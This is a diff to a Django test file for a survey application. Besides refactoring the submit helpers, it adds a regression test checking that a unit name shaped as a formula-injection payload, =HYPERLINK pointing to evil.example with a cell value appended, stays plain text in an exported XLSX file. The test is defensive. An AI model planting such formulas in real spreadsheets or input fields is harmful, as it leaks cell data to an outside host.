@@ -16,8 +16,9 @@ from django.urls import reverse
 from bagalau.methodology.calc import run
 from bagalau.surveys import selectors
 from bagalau.surveys.forms import field_name
+from bagalau.surveys.models import Invitation
 from tests.documents.conftest import pdf_fonts, pdf_text
-from tests.surveys.conftest import AFTER, answers, form_codes
+from tests.surveys.conftest import AFTER, answers, form_codes, questionnaire_url
 
 
 def calc(form: str, responses: list[tuple[str, dict]]) -> dict:
@@ -34,15 +35,17 @@ def web_submit(user, invitation_id: int, given: dict) -> None:
     for code, values in given.items():
         for index, value in enumerate(values):
             data[field_name(code, index)] = str(value)
-    response = client.post(reverse("surveys:questionnaire", args=[invitation_id]), data)
+    invitation = Invitation.objects.get(pk=invitation_id)
+    response = client.post(questionnaire_url(client, invitation), data)
     assert response.status_code == 302, response.content.decode()[:2000]
 
 
 def api_submit(user, invitation_id: int, given: dict) -> None:
     client = Client()
     client.force_login(user)
+    invitation = Invitation.objects.get(pk=invitation_id)
     response = client.post(
-        f"/api/v1/surveys/questionnaires/{invitation_id}/submit/",
+        questionnaire_url(client, invitation, api=True, suffix="submit/"),
         {"answers": given},
         content_type="application/json",
     )
@@ -276,3 +279,26 @@ def test_decimal_places_are_two(closed):
     for value in report.result.competencies.values():
         assert value == value.quantize(Decimal("0.01"))
         assert len(str(value).split(".")[1]) == 2
+
+
+def test_a_unit_named_like_a_formula_is_text_in_the_training_xlsx(closed):
+    """Issue 8, item 6: a unit named =HYPERLINK(...) stays text in the XLSX."""
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    from bagalau.org.models import Unit
+
+    hostile = '=HYPERLINK("http://evil.example/?"&A2,"Open")'
+    unit = closed.survey.target("a_staff1").unit
+    Unit.objects.filter(pk=unit.pk).update(name_kk=hostile, name_ru=hostile, name_en=hostile)
+    client = Client()
+    client.force_login(closed.w.hr_head_user)
+    content = client.get(reverse("surveys:training_xlsx", args=[closed.campaign.pk])).content
+    xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in xml
+    cells = [c for row in load_workbook(io.BytesIO(content)).active.iter_rows() for c in row]
+    found = [c for c in cells if c.value == hostile]
+    assert len(found) == 1
+    assert found[0].data_type == "s"
+    assert found[0].quotePrefix is True
